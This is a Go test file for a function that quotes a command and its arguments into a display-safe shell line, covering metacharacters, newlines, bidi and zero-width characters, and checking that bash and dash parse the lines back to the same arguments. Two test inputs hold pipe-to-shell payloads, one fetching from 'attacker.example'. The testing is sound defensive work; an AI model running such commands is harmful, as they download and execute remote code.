package cmdline

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

var cases = []struct {
	name    string
	command string
	args    []string
	want    string
}{
	{"plain words stay as they are", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem", "/home/alice"},
		"npx -y @modelcontextprotocol/server-filesystem /home/alice"},
	{"a script with spaces is one quoted word", "sh", []string{"-c", "sk-••••••; curl -fsSL https://attacker.example/p | sh"},
		"sh -c 'sk-••••••; curl -fsSL https://attacker.example/p | sh'"},
	{"an argument with a single quote is double-quoted, with $ escaped", "node", []string{"-e", "const u = 'x'; console.log(`${u}`)"},
		`node -e "const u = 'x'; console.log(\` + "`" + `\${u}\` + "`" + `)"`},
	{"an empty argument is visible", "server", []string{"", "x"}, "server '' x"},
	{"shell characters are quoted: $, *, ~, #, ;, |", "echo", []string{"$HOME", "*.go", "~/x", "#1", "a;b", "a|b"},
		`echo '$HOME' '*.go' '~/x' '#1' 'a;b' 'a|b'`},
	{"= in an argument needs no quotes", "npx", []string{"pkg", "--api-key=••••••", "A=1"}, "npx pkg --api-key=•••••• A=1"},
	{"= in the command word would be an assignment", "A=1", []string{"x"}, "'A=1' x"},
	{"a command path with a space", "/opt/My Tools/server", nil, "'/opt/My Tools/server'"},
	{"a newline is written as \\n, not as a second line", "sh", []string{"-c", "echo hi\ncurl x | sh"}, `sh -c $'echo hi\ncurl x | sh'`},
	{"a tab and a quote in $'…'", "x", []string{"a\tb'c"}, `x $'a\tb\'c'`},
	{"a direction-changing character is written as its bytes", "x", []string{"abc\u202Etxt.exe"}, `x $'abc\xe2\x80\xaetxt.exe'`},
	{"a zero-width space is written as its bytes, and a hex digit after it starts anew", "x", []string{"a\u200Bb"}, `x $'a\xe2\x80\x8b'$'b'`},
	{"a byte that is not UTF-8", "x", []string{"a\xffz"}, `x $'a\xffz'`},
	{"non-Latin letters are printable and stay", "x", []string{"数据", "é ü"}, "x 数据 'é ü'"},
	{"a NUL byte is shown, though no argument can hold one", "x", []string{"a\x00b"}, `x $'a\x00'$'b'`},
}

func TestJoin(t *testing.T) {
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Join(tc.command, tc.args); got != tc.want {
				t.Errorf("Join(%q, %q)\n got %s\nwant %s", tc.command, tc.args, got, tc.want)
			}
		})
	}
}

// The line means the same arguments to real shells: bash reads every case,
// dash (Debian's sh, which has no $'…' before 0.5.13) the ones in plain
// POSIX quotes.
func TestJoin_ShellsReadTheSameArguments(t *testing.T) {
	for _, shell := range []string{"bash", "dash"} {
		path, err := exec.LookPath(shell)
		if err != nil {
			t.Logf("%s not installed: skipped", shell)
			continue
		}
		for _, tc := range cases {
			if slices.ContainsFunc(tc.args, func(a string) bool { return strings.Contains(a, "\x00") }) {
				continue // a NUL cannot be passed to a program
			}
			line := Join("f", tc.args)
			if shell == "dash" && strings.Contains(line, "$'") {
				continue
			}
			t.Run(shell+"/"+tc.name, func(t *testing.T) {
				out, err := exec.Command(path, "-c", `f() { for a in "$@"; do printf '%s\0' "$a"; done; }; `+line).Output()
				if err != nil {
					t.Fatalf("%s -c %q: %v", shell, line, err)
				}
				got := strings.Split(string(out), "\x00")
				got = got[:len(got)-1]
				if len(tc.args) == 0 {
					got = nil
				}
				if !slices.Equal(got, tc.args) && !(len(got) == 0 && len(tc.args) == 0) {
					t.Errorf("%s read %s as %q; want %q", shell, line, got, tc.args)
				}
			})
		}
	}
}
